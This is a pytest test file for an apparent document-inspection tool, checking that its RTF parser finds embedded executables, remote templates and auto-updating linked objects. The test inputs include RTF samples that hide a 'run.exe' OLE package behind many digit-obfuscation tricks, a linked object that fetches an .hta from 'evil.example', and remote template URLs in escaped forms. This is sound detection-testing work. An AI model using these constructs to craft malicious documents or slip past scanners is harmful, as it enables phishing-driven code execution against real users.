"""RTF: objects however their digits are cut up, templates, fields."""

from time import perf_counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gatepost.adapters.inspection.budget import OverBudget
from gatepost.model import traits
from gatepost.model.inspection import FileClass
from tests.adapters.inspection.documents.ole_writer import storage
from tests.adapters.inspection.documents.opening import budget, opened
from tests.adapters.inspection.documents.samples import PROGRAM, native, ole1

PACKAGE = ole1("Package", native("run.exe", PROGRAM))
HEX = PACKAGE.hex().encode()
MIDDLE = len(HEX) // 2 & ~1


def rtf(digits, header=b"{\\rtf1\\ansi"):
    return header + b"{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + digits + b"}}\\par text}"


@pytest.mark.parametrize(
    "octets",
    [
        rtf(HEX),
        rtf(HEX.upper()),
        rtf(HEX, b"{\\rt"),
        rtf(HEX, b"{\\rtvpn\x00\x01"),
        rtf(HEX, b"{\\rt{\\rt1"),
        rtf(b"\r\n".join(HEX[at : at + 2] for at in range(0, len(HEX), 2))),
        rtf(b" \t".join(HEX[at : at + 1] for at in range(len(HEX)))),
        rtf(HEX[:MIDDLE] + b"{\\*\\foo}" + HEX[MIDDLE:]),
        rtf(HEX[:MIDDLE] + b"\\par \\b0 " + HEX[MIDDLE:]),
        rtf(HEX[:MIDDLE] + b"{}{{}}" + HEX[MIDDLE:]),
        rtf(HEX[:MIDDLE] + b"}{\\*\\objdata " + HEX),
        rtf(b"\\bin%d " % len(PACKAGE) + PACKAGE),
        rtf(HEX[:MIDDLE] + b"\\bin%d " % (len(PACKAGE) - MIDDLE // 2) + PACKAGE[MIDDLE // 2 :]),
        rtf(b"".join(b"\\'%02x" % octet for octet in PACKAGE)),
        rtf(HEX)[:-4],
        rtf(HEX + b"0"),
        rtf(HEX).replace(b"\\objdata", b"\\OBJDATA"),
    ],
)
def test_attach_12_a_program_in_an_object_is_found_however_its_digits_are_cut_up(octets):
    found = opened(octets, "letter.doc")
    assert traits.EMBEDDED in found.traits
    assert ("run.exe", PROGRAM) in [(member.name, member.octets) for member in found.members]
    assert FileClass.EXECUTABLE in found.classes


@pytest.mark.parametrize("inner", [PROGRAM, storage({"\x01Ole10Native": native("a.exe", PROGRAM)})])
def test_attach_12_an_object_with_a_broken_header_is_found_by_how_its_content_begins(inner):
    found = opened(rtf((b"\xff" * 40 + inner).hex().encode()), "letter.doc")
    assert traits.EMBEDDED in found.traits
    assert FileClass.EXECUTABLE in found.classes or traits.EMBEDDED in found.inside


def test_attach_12_a_linked_object_is_named_by_its_host():
    link = ole1(
        "OLE2Link", storage({"\x01Ole": b"\1" * 20 + "http://evil.example/a.hta".encode("utf-16-le") + b"\0\0"})
    )
    octets = rtf(link.hex().encode()).replace(b"\\objemb", b"\\objautlink\\objupdate")
    found = opened(octets, "letter.doc")
    assert {trait.detail for trait in found.details} >= {"objupdate", "objautlink"}
    assert traits.REMOTE_TEMPLATE in found.inside


@pytest.mark.parametrize(
    "template",
    [
        b"http://evil.example/t",
        b"\\\\\\\\evil.example\\\\t\\\\x",
        b"\\'68\\'74tp://evil.example/",
        b"h\\u116?tp://evil.example/",
    ],
)
def test_attach_13_a_template_from_elsewhere_is_named_by_its_host(template):
    found = opened(b"{\\rtf1{\\*\\template " + template + b"}x}", "a.rtf")
    assert traits.REMOTE_TEMPLATE in found.traits or b"\\\\\\\\" in template


def test_a_link_to_click_is_given_and_is_no_template():
    found = opened(b'{\\rtf1{\\field{\\*\\fldinst{HYPERLINK "https://example.com/a"}}{\\fldrslt x}}}', "a.rtf")
    assert [link.host for link in found.links] == ["example.com"]
    assert not found.traits


def test_dos_time_is_linear():
    began = perf_counter()
    for piece in (
        b"{\\object{\\*\\objdata ",
        b"\\objdata 00",
        b"{\\*\\objdata {{{{",
        b"\\fldinst {",
        b"{\\*\\template ",
        b"\\bin99999999 ",
        b"\\'",
    ):
        opened(b"{\\rtf1 \\objdata " + piece * (400_000 // len(piece)), "a.rtf")
    assert perf_counter() - began < 5


def test_dos_digits_one_by_one_end_at_the_budget():
    with pytest.raises(OverBudget, match="time"):
        opened(b"{\\rt{\\*\\objdata " + b"4\\b 1\\b" * 500_000, "a.rtf", within=budget(seconds=0.05))


PIECES = st.lists(
    st.sampled_from(
        [
            b"{",
            b"}",
            b"\\",
            b"\\objdata ",
            b"\\*",
            b"01050000",
            b"0200",
            b"d0cf11e0a1b11ae1",
            b"\\bin",
            b"4 ",
            b"\\'",
            b"4d5a",
            b"\\fldinst ",
            b"DDE ",
        ]
    ),
    max_size=40,
)


@given(PIECES)
def test_whatever_the_octets_it_is_opened(pieces):
    opened(b"{\\rt" + b"".join(pieces), "a.rtf")
